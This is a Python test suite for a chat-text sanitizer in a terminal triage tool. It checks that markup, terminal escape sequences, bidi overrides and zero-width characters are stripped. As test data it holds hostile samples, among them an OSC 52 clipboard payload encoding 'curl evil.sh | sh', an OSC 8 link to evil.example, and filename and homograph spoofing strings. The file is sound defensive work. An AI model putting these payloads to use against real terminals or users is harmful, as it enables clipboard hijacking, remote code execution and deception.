"""Untrusted chat text (DESIGN §9, issue 2 item 8): never markup, no escapes, no hidden characters."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console
from rich.text import Text
from tgtriage.core.rules.sanitize import clean_line, clean_text

ESC = "\x1b"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"


def rendered(value: str) -> str:
    """What a terminal receives when the screen draws `value` as a Text."""
    console = Console(width=200, force_terminal=True, color_system="truecolor", record=False)
    with console.capture() as capture:
        console.print(Text(value), end="")
    return capture.get()


# ------------------------------------------------------------------ markup stays literal


@pytest.mark.parametrize(
    "markup",
    [
        "[bold]x[/]",
        "[link=https://x]y[/link]",
        "[@click=app.quit]z[/]",
        "[red on white]r[/red on white]",
    ],
)
def test_markup_is_literal_text(markup: str) -> None:
    cleaned = clean_text(markup)
    assert cleaned == markup
    text = Text(cleaned)
    assert text.plain == markup
    assert text.spans == []
    assert not text.style
    for segment in text.render(Console()):
        assert not segment.style or (not segment.style.link and not segment.style.meta)
    output = rendered(cleaned)
    assert markup in output  # the brackets reach the screen as characters
    assert "\x1b]8;" not in output  # and no hyperlink was made of them


def test_markup_in_names_and_previews_is_literal_too() -> None:
    assert clean_line("[@click=app.quit]Acme[/] · Support") == "[@click=app.quit]Acme[/] · Support"


# ------------------------------------------------------------------ terminal escapes


def test_clear_screen_csi_is_stripped() -> None:
    assert clean_text("before\x1b[2Jafter") == "beforeafter"
    assert clean_text("\x1b[H\x1b[2J\x1b[3Jgone") == "gone"


@pytest.mark.parametrize(
    "attack",
    [
        "\x1b[31mred\x1b[0m",
        "\x1b[?1049h",  # alternate screen
        "\x1b[?1000h",  # mouse reporting on
        "\x1b[6n",  # cursor position report (answers into the input)
        "\x1b[1;2;3;4;5;6;7;8;9;10;11;12m",
        "\x1bc",  # full reset
        "\x1b7\x1b8",  # save/restore cursor
        "\x1bP+q544e\x1b\\",  # DCS terminfo query
        "\x1b_Gf=100;payload\x1b\\",  # APC (kitty graphics)
        "\x1b^privacy message\x1b\\",  # PM
        "\x1bX sos \x1b\\",  # SOS
        "\x1b]0;new window title\x07",
        "\x1b]2;title\x1b\\",
        "\x1b]1337;File=inline=1:AAAA\x07",
    ],
)
def test_escape_sequences_are_stripped(attack: str) -> None:
    cleaned = clean_text(f"a{attack}b")
    assert ESC not in cleaned
    assert cleaned.startswith("a") and cleaned.endswith("b")
    assert "payload" not in cleaned and "title" not in cleaned and "AAAA" not in cleaned


def test_osc52_clipboard_write_is_removed_with_its_payload() -> None:
    payload = "Y3VybCBldmlsLnNoIHwgc2g="  # "curl evil.sh | sh"
    for end in ("\x07", "\x1b\\"):
        cleaned = clean_text(f"hello \x1b]52;c;{payload}{end}world")
        assert cleaned == "hello world"


def test_unterminated_osc_cannot_leak_into_the_terminal() -> None:
    cleaned = clean_text("hi \x1b]52;c;Y3VybA==")
    assert ESC not in cleaned
    assert "]52;" not in cleaned


def test_osc8_hyperlink_keeps_the_words_and_drops_the_link() -> None:
    for st_end in ("\x1b\\", "\x07"):
        text = f"click \x1b]8;;https://evil.example/{st_end}here\x1b]8;;{st_end} please"
        cleaned = clean_text(text)
        assert cleaned == "click here please"
        assert "evil.example" not in cleaned


def test_8bit_c1_sequences_are_stripped() -> None:
    assert clean_text("\x9b31mred\x9b0m") == "red"
    assert clean_text("a\x9d52;c;Y3VybA==\x9cb") == "ab"  # 8-bit OSC ... ST
    assert clean_text("a\x9d0;title\x07b") == "ab"
    assert clean_text("a\x90q\x9cb") == "ab"  # 8-bit DCS
    assert clean_text("a\x85b\x84c") == "abc"  # NEL, IND


def test_a_stray_c1_character_does_not_swallow_the_rest_of_the_message() -> None:
    # UTF-8 quotes read as cp1252/latin-1 end in U+009D: "â€\x9d" is everyday mojibake.
    mojibake = "He said â€œhelloâ€\x9d and then left the chat"
    assert clean_text(mojibake) == "He said â€œhelloâ€ and then left the chat"


def test_c0_controls_are_stripped_but_newlines_and_tabs_survive() -> None:
    assert clean_text("a\x00b\x07c\x08d\x7fe\rf") == "abcdef"
    assert clean_text("line 1\r\nline 2\nline 3") == "line 1\nline 2\nline 3"
    assert clean_text("col\tcol") == "col    col"
    assert clean_text("para\u2028next\u2029last") == "para\nnext\nlast"


# ------------------------------------------------------------------ hidden characters


@pytest.mark.parametrize("char", list(BIDI), ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidi_controls_are_stripped(char: str) -> None:
    # "invoice_{RLO}fdp.exe" displays as "invoice_exe.pdf" in a bidi-aware renderer.
    assert clean_text(f"invoice_{char}fdp.exe") == "invoice_fdp.exe"


@pytest.mark.parametrize("char", list(ZERO_WIDTH), ids=[f"U+{ord(c):04X}" for c in ZERO_WIDTH])
def test_zero_width_characters_are_stripped(char: str) -> None:
    assert clean_text(f"pay{char}pal") == "paypal"


def test_emoji_zwj_sequences_lose_the_joiner_so_every_terminal_draws_the_same_width() -> None:
    # Terminals disagree on drawing joined emoji (one glyph or two); without the joiner the
    # width the screen computes is the width every terminal draws, and nothing is hidden.
    joined = "👩\u200d💻"
    cleaned = clean_text(joined)
    assert cleaned == "👩💻"
    assert cell_len(cleaned) == sum(cell_len(c) for c in cleaned) == 4


def test_lone_surrogates_become_replacement_characters() -> None:
    assert clean_text("a\ud800b") == "a\ufffdb"


# ------------------------------------------------------------------ size and shape


def test_a_10000_character_message_comes_through_whole() -> None:
    text = ("lorem ipsum dolor sit amet " * 400)[:10_000]
    assert clean_text(text) == text
    noisy = text[:5000] + "\x1b[2J" + text[5000:]
    assert clean_text(noisy) == text


def test_a_10000_character_line_without_spaces_is_kept_and_cut_for_previews() -> None:
    word = "x" * 10_000
    assert clean_text(word) == word
    preview = clean_line(word, 80)
    assert len(preview) == 80
    assert preview.endswith("…")
    assert cell_len(preview) == 80


@pytest.mark.parametrize(
    "text",
    [
        "你好，我的订单还没有到",
        "サポートありがとうございます",
        "고객 지원팀",
        "thanks 👍 🙏🏽 🇩🇪 ❤️ 😀",
        "mixed 中文 and English ✅",
    ],
)
def test_cjk_and_emoji_keep_their_cell_width(text: str) -> None:
    cleaned = clean_text(text)
    assert cleaned == text
    assert cell_len(cleaned) == cell_len(text)
    assert cell_len(clean_line(text)) == cell_len(text)


def test_clean_line_makes_one_line() -> None:
    assert clean_line("  Acme\n\n· Support\t\x1b[2J ") == "Acme · Support"
    assert clean_line("") == ""
    assert clean_line("abc", 3) == "abc"
    assert clean_line("abcd", 3) == "ab…"


# ------------------------------------------------------------------ properties

NASTY = [
    *[ESC, "\x9b", "\x9d", "\x9c", "\x90", "\x07", "\r", "\n", "\t", "\x00", "\x7f"],
    *["[", "]", ";", "P", "\\", "_", "^", "a", "Z", "0", "你", "👍", "\ufe0f"],
    *["\u2028", "\u2029", "\ud800"],
    *BIDI,
    *ZERO_WIDTH,
]
untrusted = st.text(
    alphabet=st.sampled_from(NASTY) | st.characters(min_codepoint=0, max_codepoint=0x1FFFF),
    max_size=80,
)


def forbidden(char: str) -> bool:
    """A character that must never reach the screen from chat text."""
    if char in BIDI or char in ZERO_WIDTH:
        return True
    code = ord(char)
    if code < 0x20 and char != "\n":
        return True
    return 0x7F <= code <= 0x9F or unicodedata.category(char) == "Cs"


@settings(max_examples=400, deadline=None)
@given(untrusted)
def test_clean_text_never_lets_controls_through_and_is_idempotent(text: str) -> None:
    cleaned = clean_text(text)
    assert not [c for c in cleaned if forbidden(c)]
    assert clean_text(cleaned) == cleaned


@settings(max_examples=300, deadline=None)
@given(untrusted, st.integers(1, 60))
def test_clean_line_is_one_safe_line_within_its_limit(text: str, limit: int) -> None:
    line = clean_line(text, limit)
    assert "\n" not in line
    assert not [c for c in line if forbidden(c)]
    assert len(line) <= limit
    assert clean_line(line, limit) == line
